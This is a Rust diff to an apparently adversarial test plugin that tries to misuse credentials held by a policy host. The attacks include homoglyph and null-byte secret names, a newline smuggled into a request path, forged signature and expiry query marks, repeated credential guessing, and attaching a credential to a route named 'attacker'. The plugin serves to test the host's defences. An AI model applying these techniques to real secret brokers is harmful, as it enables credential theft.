@@ -5,7 +5,8 @@ use core::sync::atomic::{AtomicBool, Ordering};
 use keyward_policy::{Decision, Exchange, Failure, Verdict};
 use serde::Deserialize;
 
-use crate::{Phase, Settings};
+use crate::prize::WIDER;
+use crate::{Phase, Prize, Settings};
 
 /// One way, named after its row.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize)]
@@ -14,6 +15,8 @@ pub enum Attack {
     /// Has been handed it: no attack.
     #[default]
     None,
+    /// Has it attached, as it may.
+    Attach,
     /// A1: which names are there?
     Names,
     /// A2, A13: uses that the grant does not give, of secrets of another kind.
@@ -36,6 +39,10 @@ pub enum Attack {
     Injection,
     /// A15, A16: sign in another way than the host's.
     OwnSignature,
+    /// A15: more than the grant says.
+    Wider,
+    /// A16: marks of a signature of its own, beside the host's.
+    OwnMarks,
     /// A17: a shorter proof will do.
     Truncated,
     /// A18: a credential of one route on another.
@@ -90,6 +97,9 @@ fn use_all(exchange: &Exchange<'_>, name: &str, loot: &mut Vec<u8>) {
     note(loot, &verified);
     let who = exchange.client_keys(name).and_then(|it| it.identify());
     note(loot, &who);
+    for prize in [Prize::Token, Prize::SharedAccess, Prize::Presigned] {
+        note(loot, &prize.attach_as(name, exchange));
+    }
 }
 
 /// Sends a request of its own with the credential, and takes what comes back.
@@ -101,7 +111,7 @@ fn echo(
 ) -> Result<(), Failure> {
     let route = settings.route.as_deref().unwrap_or("billing");
     let request = exchange.call(route, "POST", path)?;
-    exchange.credential("backend")?.attach_to(&request)?;
+    settings.prize.attach_to(exchange, &request)?;
     let answer = request.body("loot?")?.send();
     note(loot, &answer);
     let Ok(answer) = answer else { return Ok(()) };
@@ -126,10 +136,34 @@ pub(crate) fn carry_out(
     let path = settings.path.as_deref().unwrap_or("/v1/charges");
     match settings.attack {
         Attack::None => {}
+        Attack::Attach => settings.prize.attach(exchange)?,
         Attack::Names => {
             // Some that are there under another name, some that are not there at all.
-            for name in ["stripe", "hooks", "customers", "no-such-secret", "*", ""] {
+            for name in [
+                "stripe",
+                "hooks",
+                "customers",
+                "orders-client",
+                "account",
+                "access-key",
+                "no-such-secret",
+                "*",
+                "",
+            ] {
                 use_all(exchange, name, loot);
+            }
+        }
+        Attack::OtherUses if settings.prize != Prize::Value => {
+            let names = ["tokens", "storage", "bucket"];
+            let prizes = [Prize::Token, Prize::SharedAccess, Prize::Presigned];
+            for (number, prize) in prizes.into_iter().enumerate() {
+                for (_, name) in names.iter().enumerate().filter(|(it, _)| *it != number) {
+                    note(loot, &prize.attach_as(name, exchange));
+                }
+            }
+            for name in names {
+                note(loot, &exchange.credential(name).and_then(|it| it.attach()));
+                note(loot, &exchange.signer(name).and_then(|it| it.attach()));
             }
         }
         Attack::OtherUses => {
@@ -150,12 +184,11 @@ pub(crate) fn carry_out(
             if KEPT.swap(true, Ordering::Relaxed) {
                 loot.extend_from_slice(b"kept");
             }
-            #[expect(clippy::disallowed_methods, reason = "it is what is attempted")]
-            core::mem::forget(exchange.credential("backend")?);
+            settings.prize.keep(exchange)?;
             loot.extend_from_slice(b"nothing\n");
         }
         Attack::ReadBack => {
-            exchange.credential("backend")?.attach()?;
+            settings.prize.attach(exchange)?;
             for message in [exchange.request(), exchange.response()] {
                 for name in message.header_names() {
                     for value in message.header_values(&name) {
@@ -169,13 +202,16 @@ pub(crate) fn carry_out(
             }
         }
         Attack::Reroute => {
-            exchange.credential("backend")?.attach()?;
+            settings.prize.attach(exchange)?;
             exchange.set_path(settings.path.as_deref().unwrap_or("/echo"))?;
         }
         Attack::Malformed => {
             let long = "x".repeat(8 * 1024);
             for name in ["\0", "\u{202e}", "{\"a\":", "-----BEGIN", &long] {
                 use_all(exchange, name, loot);
+            }
+            if settings.prize != Prize::Value {
+                return Ok(Verdict::Proceed);
             }
             let key = exchange.mac_verifier("mac")?;
             for code in [&b""[..], b"\xff", long.as_bytes(), b"{\"a\":", b"AA=="] {
@@ -190,6 +226,16 @@ pub(crate) fn carry_out(
             }
             let passed = exchange.now() - before;
             loot.extend_from_slice(format!("{passed} ms passed\n").as_bytes());
+        }
+        Attack::Guess if settings.prize != Prize::Value => {
+            // Signatures and tokens without end, to choose from.
+            for _ in 0..100_000_u32 {
+                let got = settings.prize.attach(exchange);
+                note(loot, &got);
+                if got.is_err() {
+                    break;
+                }
+            }
         }
         Attack::Guess => {
             let key = exchange.mac_verifier("mac")?;
@@ -215,7 +261,10 @@ pub(crate) fn carry_out(
                 loot,
                 &exchange.set_path("/v1/charges\n\"@authority\": evil"),
             );
-            exchange.signer("signing-key")?.attach()?;
+            match settings.prize {
+                Prize::Value => exchange.signer("signing-key")?.attach()?,
+                other => other.attach(exchange)?,
+            }
         }
         Attack::OwnSignature => {
             let request = exchange.request();
@@ -223,6 +272,25 @@ pub(crate) fn carry_out(
             let _ = request.set_header("signature-input", input);
             let _ = request.set_header("signature", "sig=:AAAA:");
             exchange.signer("signing-key")?.attach()?;
+        }
+        Attack::Wider => {
+            let key = exchange.shared_access("storage")?;
+            for terms in WIDER {
+                note(loot, &key.attach(terms));
+            }
+        }
+        Attack::OwnMarks => {
+            for (name, value) in [
+                ("sig", "AAAA"),
+                ("se", "2099-01-01T00:00:00Z"),
+                ("X-Amz-Expires", "604800"),
+                ("X-Amz-Signature", "00"),
+            ] {
+                exchange.set_query(name, value)?;
+            }
+            let own = exchange.request().set_header("authorization", "Bearer own");
+            note(loot, &own);
+            settings.prize.attach(exchange)?;
         }
         Attack::Truncated => {
             let tag = exchange.mac_signer("mac")?.sign(b"m")?;
@@ -238,12 +306,12 @@ pub(crate) fn carry_out(
         Attack::OtherRoute => {
             let route = settings.route.as_deref().unwrap_or("attacker");
             let request = exchange.call(route, "POST", path)?;
-            let attached = exchange.credential("backend")?.attach_to(&request);
+            let attached = settings.prize.attach_to(exchange, &request);
             note(loot, &attached);
             note(loot, &request.send());
         }
         Attack::Compressed => {
-            exchange.credential("backend")?.attach()?;
+            settings.prize.attach(exchange)?;
             let request = exchange.request();
             let _ = request.set_header("content-encoding", "gzip");
             let _ = request.set_header("accept-encoding", "gzip");
@@ -257,6 +325,11 @@ pub(crate) fn carry_out(
                 "backend\0",
                 "bаckend",
                 "back_end",
+                "Tokens",
+                "tokens ",
+                "st0rage",
+                "storаge",
+                "bucket\0",
             ] {
                 use_all(exchange, name, loot);
             }
@@ -274,7 +347,7 @@ pub(crate) fn carry_out(
         }
         Attack::Stored => {
             if exchange.path().ends_with("/write") {
-                exchange.credential("backend")?.attach()?;
+                settings.prize.attach(exchange)?;
             }
         }
         Attack::Oracle => {
@@ -291,7 +364,7 @@ pub(crate) fn carry_out(
         }
         Attack::ErrorPages => {
             if phase == Phase::Inbound {
-                exchange.credential("backend")?.attach()?;
+                settings.prize.attach(exchange)?;
                 return Ok(Verdict::Fail);
             }
         }
@@ -317,7 +390,7 @@ pub(crate) fn carry_out(
             }
         }
         Attack::Trace => {
-            exchange.credential("backend")?.attach()?;
+            settings.prize.attach(exchange)?;
             for name in ["traceparent", "tracestate", "baggage"] {
                 let _ = exchange.request().set_header(name, "a-policy-wrote-this");
             }
